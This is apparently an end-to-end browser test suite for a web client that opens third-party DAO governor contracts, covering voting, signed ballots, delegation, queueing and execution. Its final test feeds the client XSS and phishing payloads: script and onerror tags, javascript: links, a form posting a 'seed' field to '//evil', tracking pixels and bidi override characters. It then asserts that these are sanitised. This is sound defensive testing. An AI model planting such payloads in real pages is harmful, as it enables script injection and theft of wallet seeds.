import type { Browser, Page } from 'playwright-core'
import { type Address, type Hex, keccak256, parseEther, toBytes } from 'viem'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { computeProposalId } from '../../web/src/domain/proposalId.js'
import { foreignGovernorAbi } from '../../web/src/generated/abi/openZeppelin.js'
import { connectChain, getAccount, step, type ChainConnection } from '../support/chain.js'
import { eventually } from '../support/eventually.js'
import {
  compileForeign,
  createForeignWriter,
  deployBay,
  deployForeign,
  deployFourth,
  deployHill,
  deployRiver,
  type ForeignWriter,
} from '../support/foreign/deployForeign.js'
import { launchChromium } from '../support/launchChromium.js'
import { startChain } from '../support/startChain.js'
import { startClientOn } from '../support/startClientOn.js'
import { become } from './support/become.js'
import { collectComplaints } from './support/collectComplaints.js'

// Other people's DAOs in the browser, on a chain and nothing else: no index, no IPFS, no DAO of ours.

let chain: Awaited<ReturnType<typeof startChain>>
let client: Awaited<ReturnType<typeof startClientOn>>
let connection: ChainConnection
let write: ForeignWriter
let browser: Browser
let page: Page
let complaints: string[]

beforeAll(async () => {
  await compileForeign()
  chain = await startChain(40)
  connection = connectChain(chain.rpcUrl)
  write = createForeignWriter(connection)
  client = await startClientOn(chain.rpcUrl)
  browser = await launchChromium()
})

afterAll(async () => {
  await browser?.close()
  await client?.stop()
  chain?.stop()
})

beforeEach(async () => {
  page = await browser.newPage({ locale: 'en' })
  page.setDefaultTimeout(40_000)
  complaints = collectComplaints(page)
})

afterEach(async ({ task }) => {
  if (task.result?.state === 'fail') console.error(await page.locator('body').innerText())
  await page.close()
  expect(complaints).toEqual([])
})

const pay = (to: Address, amount: bigint) => [[to], [amount], ['0x' as Hex]] as const
const hash = (text: string) => keccak256(toBytes(text))
const button = (name: string) => page.getByRole('button', { name, exact: true })
const state = (name: string) => page.locator(`main [data-state="${name}"]`).first()
const read = (address: Address, functionName: string, args: readonly unknown[]) =>
  connection.reader.readContract({ address, abi: foreignGovernorAbi, functionName, args } as never)

async function look(address: string) {
  await page.goto(`${client.clientUrl}/#/bring`)
  await page.getByLabel('Address of the governor').fill(address)
  await button('Look at it').click()
}

async function bring(address: string, name: string) {
  await look(address)
  await button('Open it and remember it here').click()
  await page.getByRole('heading', { level: 1, name: 'Proposals' }).waitFor()
  await page.locator('header').getByText(name).waitFor()
  await page.locator('header').getByText('Somebody else’s contract on Local.').waitFor()
}

const openProposal = async (name: string) => {
  await page.getByRole('link', { name, exact: true }).click()
  await page.getByRole('heading', { level: 1, name, exact: true }).waitFor()
}

describe('a DAO with a timelock', () => {
  let dao: Awaited<ReturnType<typeof deployRiver>>
  const actions = pay(getAccount(9).address, 5n)
  const text = '# Clean the river\n\nTwo **boats**, one day. ![](http://127.0.0.1:1/pixel.png)'
  let id: bigint

  beforeAll(async () => {
    dao = await deployRiver(connection)
    await write.send(0, dao.timelock, '0x', parseEther('1'))
    await write.govern(1, dao.governor, 'propose', [...actions, text])
    await write.govern(0, dao.governor, 'propose', [...pay(dao.governor, 0n), 'Never mind'])
    await connection.clock.mine({ blocks: 200 })
    id = (await read(dao.governor, 'getProposalId', [...actions, hash(text)])) as bigint
  })

  test('is looked at, told, opened and remembered', async () => {
    await look(dao.governor)
    const facts = page.locator('section[aria-labelledby="found"]')
    await facts.getByText('River DAO').waitFor()
    await facts.getByText('support=bravo&quorum=for,abstain').waitFor()
    await facts.getByText('River Token · RIVER').waitFor()
    await facts.getByText('a TimelockController').waitFor()
    expect(
      await page.locator('[data-can]').evaluateAll((all) => all.map((one) => one.getAttribute('data-can'))),
    ).toEqual([...['vote', 'reason', 'sign', 'delegate', 'queue', 'execute', 'cancel']])
    await bring(dao.governor, 'River DAO')
    await page.getByText('2 proposals read').waitFor()
    await page.locator('main li [data-state]').nth(1).waitFor()
    expect(
      await page.locator('main li [data-state]').evaluateAll((all) => all.map((one) => one.getAttribute('data-state'))),
    ).toEqual(['pending', 'pending'])
    await page.goto(`${client.clientUrl}/#/bring`)
    await page.getByRole('link', { name: 'River DAO' }).waitFor()
  })

  test('is cancelled by who proposed, and nobody else is offered it', async () => {
    await bring(dao.governor, 'River DAO')
    await become(page, 5)
    await openProposal('Never mind')
    await page.getByText('Voting is not open yet.').waitFor()
    expect(await page.locator('[data-offer]').count()).toBe(0)
    await become(page, 0)
    await page.locator('[data-offer="cancel"][data-answer="yes"]').waitFor()
    await button('Cancel the proposal').click()
    await state('canceled').waitFor()
    expect(await page.locator('[data-offer]').count()).toBe(0)
  })

  test('is voted on with a reason; a signed ballot is sent by somebody else', async () => {
    await step(connection, 3_601)
    await bring(dao.governor, 'River DAO')
    await become(page, 1)
    await openProposal('Clean the river')
    await state('active').waitFor()
    await page.locator('[data-action="payment"]').getByText('Pays 0.000000000000000005 ETH to').waitFor()
    await page.locator('.prose strong', { hasText: 'boats' }).waitFor()
    expect(await page.locator('main img').count()).toBe(0)
    await page.getByText('You have 2,000,000 RIVER.').waitFor()
    await page.getByRole('radio', { name: 'For' }).check({ force: true })
    await page.getByLabel('Reason').fill('It smells.')
    await button('Cast your vote').click()
    await page.getByText('Your account has voted.').waitFor()
    await page.locator('[data-tally="for"]', { hasText: '2,000,000' }).waitFor()
    await page.locator('section[aria-labelledby="ballots"]').getByText('It smells.').waitFor()
    expect(await read(dao.governor, 'hasVoted', [id, getAccount(1).address])).toBe(true)

    await become(page, 3)
    await page.getByRole('radio', { name: 'Against' }).check({ force: true })
    await page.getByLabel('Reason').fill('Too dear.')
    await button('Sign instead of sending').click()
    await button('Sign the ballot').click()
    const signed = await page.getByLabel('Signed ballot').inputValue()
    await page.locator('nav').getByRole('link', { name: 'Signed ballots' }).click()
    await become(page, 6)
    const field = page.getByLabel('Signed ballot', { exact: true })
    await field.fill(signed.replace('"support": 0', '"support": 1'))
    await page.locator('[data-offer][data-answer="no"]').waitFor() // Changed after signing.
    expect(await button('Send the signed ballot').count()).toBe(0)
    await field.fill(signed)
    await page.locator('[data-offer][data-answer="yes"]').waitFor()
    await button('Send the signed ballot').click()
    await eventually(async () =>
      expect(await read(dao.governor, 'proposalVotes', [id])).toEqual([
        parseEther('4000000'),
        parseEther('2000000'),
        0n,
      ]),
    )
  })

  test('is decided, queued and executed', async () => {
    for (const voter of [0, 2]) await write.govern(voter, dao.governor, 'castVote', [id, 1])
    await step(connection, 86_401)
    await bring(dao.governor, 'River DAO')
    await openProposal('Clean the river')
    await state('succeeded').waitFor()
    await page.getByText('Connect a wallet to send this.').waitFor()
    await become(page, 7)
    await page.locator('[data-offer="queue"][data-answer="yes"]').waitFor()
    await button('Queue').click()
    await state('queued').waitFor()
    await page.getByText(/It can be executed in /).waitFor()
    await step(connection, 3_601)
    await button('Execute').click()
    await state('executed').waitFor()
    expect(await read(dao.governor, 'state', [id])).toBe(7n)
  })

  test('its votes are delegated', async () => {
    await bring(dao.governor, 'River DAO')
    await become(page, 2)
    await page.locator('nav').getByRole('link', { name: 'Your votes' }).click()
    await page.getByText('3,000,000 RIVER').first().waitFor()
    await page.getByLabel('Delegate to').fill(getAccount(1).address)
    await page.locator('[data-offer^="delegate"][data-answer="yes"]').waitFor()
    await button('Delegate').click()
    await page.locator('[data-offer="self"]').waitFor() // They are cast by another now.
    await page
      .getByText(`${getAccount(1).address.slice(0, 21)}`)
      .first()
      .waitFor()
  })

  test('what was read is kept: after a reload only the newest blocks are asked for', async () => {
    await bring(dao.governor, 'River DAO')
    await page.getByText('2 proposals read').waitFor()
    const asked: bigint[] = []
    page.on('request', (request) => {
      const calls = [JSON.parse(request.postData() ?? '[]')].flat() as {
        method: string
        params: { fromBlock: Hex }[]
      }[]
      for (const { method, params } of calls) if (method === 'eth_getLogs') asked.push(BigInt(params[0]!.fromBlock))
    })
    const before = await connection.reader.getBlockNumber()
    await page.reload()
    await page.getByText('2 proposals read').waitFor()
    expect(asked.length).toBeGreaterThan(0)
    for (const from of asked) expect(from).toBeGreaterThanOrEqual(before - 64n)
    await page.locator('nav').getByRole('link', { name: 'What it is' }).click()
    asked.splice(0)
    await button('Read everything again').click()
    await eventually(async () => expect(asked.some((from) => from < before - 64n)).toBe(true))
  })

  test('a reading that is cut off says how far it came, and goes on there after a reload', async () => {
    // An endpoint that takes its time, and gives few blocks at once.
    const asked: bigint[] = []
    await page.route(
      ({ origin }) => origin === chain.rpcUrl,
      async (route) => {
        const calls = [JSON.parse(route.request().postData()!)].flat() as {
          id: number
          method: string
          params: { fromBlock: Hex; toBlock: Hex }[]
        }[]
        const isLogs = (id: number) => calls.some((one) => one.id === id && one.method === 'eth_getLogs')
        const isWide = (id: number) =>
          calls.some(({ id: one, params: [range] }) => {
            return one === id && BigInt(range!.toBlock) - BigInt(range!.fromBlock) > 20n
          })
        const response = await route.fetch()
        const answers = [await response.json()].flat() as { id: number }[]
        if (!answers.some(({ id }) => isLogs(id))) return route.fulfill({ response })
        await new Promise((resolve) => setTimeout(resolve, 700))
        const cut = answers.map((one) =>
          isLogs(one.id) && isWide(one.id)
            ? { jsonrpc: '2.0', id: one.id, error: { code: -32005, message: 'query returned more than 10000 results' } }
            : one,
        )
        for (const { id, method, params } of calls) {
          if (method === 'eth_getLogs' && !isWide(id)) asked.push(BigInt(params[0]!.fromBlock))
        }
        await route.fulfill({ response, json: Array.isArray(JSON.parse(route.request().postData()!)) ? cut : cut[0] })
      },
    )
    await bring(dao.governor, 'River DAO')
    const reading = page.locator('[data-reading]')
    await reading.getByText(/^[\d,]+ of [\d,]+ blocks$/).waitFor()
    await eventually(async () => expect(asked.length).toBeGreaterThan(2))
    await reading.waitFor()
    const [first] = asked.splice(0)
    await page.reload()
    await page.getByText('2 proposals read').waitFor()
    await eventually(async () => expect(asked.length).toBeGreaterThan(0))
    expect(asked[0]).toBeGreaterThan(first!)
    await page.unrouteAll({ behavior: 'ignoreErrors' })
  })

  test('no word of its pages stands outside the catalogue', async () => {
    const place = `#/governor/31337:${dao.governor}`
    for (const path of [
      '#/bring',
      place,
      ...['delegate', 'carry', 'about', `proposals/${id}`].map((part) => `${place}/${part}`),
    ]) {
      await page.goto('about:blank')
      await page.goto(`${client.clientUrl}/?lang=pseudo${path}`)
      await page.locator('main h1').waitFor()
      await page.locator('main [aria-busy="true"]').first().waitFor({ state: 'detached' })
      const words = await page.evaluate(() => {
        const found: string[] = []
        const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
          const parent = node.parentElement
          if (!parent || parent.closest('[data-content], code, script, noscript, style, option, svg')) continue
          const text = node.textContent?.trim() ?? ''
          if (/\p{L}{2}/u.test(text) && !text.includes('⟦') && !text.includes('⟧')) found.push(text)
        }
        return found
      })
      expect([path, words]).toEqual([path, []])
    }
  })

  test('is forgotten when it is removed', async () => {
    await bring(dao.governor, 'River DAO')
    await page.goto(`${client.clientUrl}/#/bring`)
    await button('Remove').click()
    await page.getByText('Nothing was brought yet.').waitFor()
    await page.reload()
    await page.getByText('Nothing was brought yet.').waitFor()
  })
})

test('a DAO of collectibles without a timelock, counted by blocks: read, voted on, executed', async () => {
  const { governor, token } = await deployHill(connection)
  await write.govern(0, governor, 'propose', [...pay(governor, 0n), 'Paint the door'])
  await bring(governor, 'Hill House')
  await openProposal('Paint the door')
  await page
    .getByText(/^block [\d,]+/)
    .first()
    .waitFor()
  await connection.clock.mine({ blocks: 4 })
  await become(page, 1)
  await state('active').waitFor()
  await page.getByText('You have 1 vote.').waitFor()
  await page.getByRole('radio', { name: 'For' }).check({ force: true })
  await button('Cast your vote').click()
  await page.locator('[data-tally="for"]', { hasText: /^1$/ }).waitFor()
  await page.getByText('Quorum: 1 vote needed, 1 counted').waitFor()
  await connection.clock.mine({ blocks: 61 })
  await state('succeeded').waitFor()
  await page.locator('[data-offer="execute"][data-answer="yes"]').waitFor()
  await button('Execute').click()
  await state('executed').waitFor()
  // Who never delegated casts no vote, and is told so.
  await write.act(0, token, 'mint', [getAccount(5).address])
  await become(page, 5)
  await page.locator('nav').getByRole('link', { name: 'Your votes' }).click()
  await page.getByText('nobody: they do not count').waitFor()
  await button('Cast them yourself').click()
  await page.getByText('nobody: they do not count').waitFor({ state: 'detached' })
})

test('a DAO on OpenZeppelin’s fourth version: a reason, a ballot that somebody else sends, queued, executed', async () => {
  const { governor, timelock } = await deployFourth(connection, 'Mill')
  await write.send(0, timelock, '0x', parseEther('1'))
  await write.govern(1, governor, 'propose', [...pay(getAccount(9).address, 5n), 'Turn the wheel'])
  const id = computeProposalId([{ target: getAccount(9).address, value: 5n, calldata: '0x' }], 'Turn the wheel')
  await connection.clock.mine({ blocks: 6 })
  await look(governor)
  await page.locator('[data-signing="plain"]').waitFor()
  await bring(governor, 'Mill DAO')
  await become(page, 1)
  await openProposal('Turn the wheel')
  await page.getByRole('radio', { name: 'For' }).check({ force: true })
  await page.getByLabel('Reason').fill('It creaks.')
  await button('Cast your vote').click()
  await page.getByText('Your account has voted.').waitFor()
  await page.locator('section[aria-labelledby="ballots"]').getByText('It creaks.').waitFor()

  await become(page, 3)
  await page.getByRole('radio', { name: 'For' }).check({ force: true })
  await page.getByLabel('Reason').fill('It turns.')
  await button('Sign instead of sending').click()
  await page.getByText('It carries no number: it stays good until voting closes').waitFor()
  await button('Sign the ballot').click()
  const signed = await page.getByLabel('Signed ballot').inputValue()
  await page.locator('nav').getByRole('link', { name: 'Signed ballots' }).click()
  await become(page, 6)
  const field = page.getByLabel('Signed ballot', { exact: true })
  // The governor would take it, as a vote of nobody that anyone knows.
  await field.fill(signed.replace('"support": 1', '"support": 0'))
  await page.locator('[data-forged]').waitFor()
  expect(await page.locator('[data-offer]').count()).toBe(0)
  await field.fill(signed.replace('"plain"', '"numbered", "nonce": "0"'))
  await page.getByText('signed in another form').waitFor()
  await field.fill(signed)
  await page.locator('[data-offer][data-answer="yes"]').waitFor()
  await button('Send the signed ballot').click()
  await eventually(async () =>
    expect(await read(governor, 'proposalVotes', [id])).toEqual([0n, parseEther('6000000'), 0n]),
  )
  expect(await read(governor, 'hasVoted', [id, getAccount(3).address])).toBe(true)

  await connection.clock.mine({ blocks: 100 })
  await page.locator('nav').getByRole('link', { name: 'Proposals' }).click()
  await openProposal('Turn the wheel')
  await state('succeeded').waitFor()
  await button('Queue').click()
  await state('queued').waitFor()
  await step(connection, 3_601)
  await button('Execute').click()
  await state('executed').waitFor()
})

test('a DAO that counts fractions, with storage and a timelock of Compound’s kind: votes are split, queued, executed', async () => {
  const { governor } = await deployBay(connection)
  await write.govern(0, governor, 'propose', [...pay(getAccount(9).address, 0n), 'Share the bay'])
  await step(connection, 3_601)
  await bring(governor, 'Bay DAO')
  await become(page, 3)
  await openProposal('Share the bay')
  await button('Split your votes').click()
  const split = page.getByRole('group', { name: 'Split your votes' })
  await split.getByLabel('For').fill('2500000.5')
  await split.getByLabel('Abstain').fill('9999999')
  await page.getByText('That is more than you have left.').waitFor()
  await split.getByLabel('Abstain').fill('1')
  await button('Cast the split vote').click()
  await page.getByText('Of them 1,499,998.5 RIVER are not cast yet.').waitFor()
  await page.locator('section[aria-labelledby="ballots"]').getByText('split', { exact: true }).waitFor()
  await page.getByRole('radio', { name: 'Against' }).check({ force: true })
  await page.locator('[data-offer="vote:against"][data-answer="yes"]').waitFor()
  await button('Cast your vote').click()
  await page.locator('[data-tally="against"]', { hasText: '1,499,998.5' }).waitFor()
  await step(connection, 86_401)
  await button('Queue').click()
  await state('queued').waitFor()
  await step(connection, 7_201)
  await button('Execute').click()
  await state('executed').waitFor()
})

test('what is no governor is not opened, and said to be none', async () => {
  const { token } = await deployHill(connection)
  await page.goto(`${client.clientUrl}/#/bring`)
  await page.getByLabel('Address of the governor').fill('0x12')
  await page.getByText('This is no address.').waitFor()
  expect(await button('Look at it').isDisabled()).toBe(true)
  await look(getAccount(30).address)
  await page.getByText('There is no contract at this address on this chain.').waitFor()
  await look(token)
  await page.getByText('it is no governor that can be read here').waitFor()
  expect(await button('Open it and remember it here').count()).toBe(0)
  await page.goto(`${client.clientUrl}/#/governor/31337:${token}/delegate`)
  await page.getByText('it is no governor that can be read here').waitFor()
})

test.each([
  ['of unknown counting, with getters that revert', 'support=mine&quorum=none', true],
  ['that says it counts as others do', 'support=bravo&quorum=for,abstain', false],
])('a hostile one %s: nothing dangerous is shown, and nothing is offered', async (_, counting, isBroken) => {
  const governor = await deployForeign(connection, 'HostileGovernor', [counting, isBroken], 'Hostile')
  const nine = getAccount(9).address
  const evil = [
    '# <img src=x onerror=alert(1)> \u202Etitle\u200B',
    '<script>alert(1)</script> [click](javascript:alert(1)) ![](http://127.0.0.1:1/track.png) <iframe src="//evil"></iframe>',
    '<style>body{display:none}</style><form action="//evil"><input name="seed"></form>',
    'x'.repeat(100_000),
  ].join('\n\n')
  await write.act(0, governor, 'announce', [7n, [nine], [parseEther('1')], ['0xdeadbeef'], evil])
  await write.act(0, governor, 'announce', [8n, [nine, nine], [1n], ['0x'], ''])
  await write.act(0, governor, 'pretend', [7n, nine, 77, 2n ** 256n - 1n, '<b>bold</b> \u202Eesrever'])
  await write.act(0, governor, 'babble', [hash('ProposalExecuted(uint256)'), '0x'])
  page.on('dialog', (dialog) => complaints.push(`dialog: ${dialog.message()}`))
  page.on('request', (request) => {
    if (!request.url().startsWith(client.clientUrl) && !request.url().startsWith(chain.rpcUrl))
      complaints.push(request.url())
  })
  await look(governor)
  await page.locator('[data-cannot]').first().waitFor()
  if (isBroken) await page.locator('[data-cannot="vote"]').waitFor()
  await button('Open it').click()
  await page.getByText('2 proposals read').waitFor()
  await page.getByRole('link', { name: 'Without a title' }).waitFor()
  await become(page, 1)
  await page.getByRole('link', { name: /<img src=x onerror=alert\(1\)> title/ }).click()
  await page.getByText('is not what its id stands for').waitFor()
  await page.locator('.prose').waitFor()
  expect(await page.locator('main').locator('img, script, iframe, style, form, input').count()).toBe(0)
  expect(await page.locator('main a[href^="javascript"]').count()).toBe(0)
  expect((await page.locator('.prose').innerText()).length).toBeLessThan(45_000)
  expect(await page.locator('main').innerText()).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B]/)
  expect(await page.locator('[data-offer]').count()).toBe(0)
  // Whatever it says of itself, no state of ours is made of a number that is none.
  await write.act(0, governor, 'say', [300n])
  await page.getByText('state 300: none that is known').waitFor()
  for (const name of ['Your votes', 'Signed ballots', 'What it is']) {
    await page.locator('nav').getByRole('link', { name }).click()
    await page.locator('main h1').waitFor()
    expect(await page.locator('[data-offer][data-answer="yes"]').count()).toBe(0)
    // A refusal is told in the contract's own words, cleaned as well.
    if (!isBroken && name === 'Your votes') await page.getByText('Not for strangers').waitFor()
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
  }
})
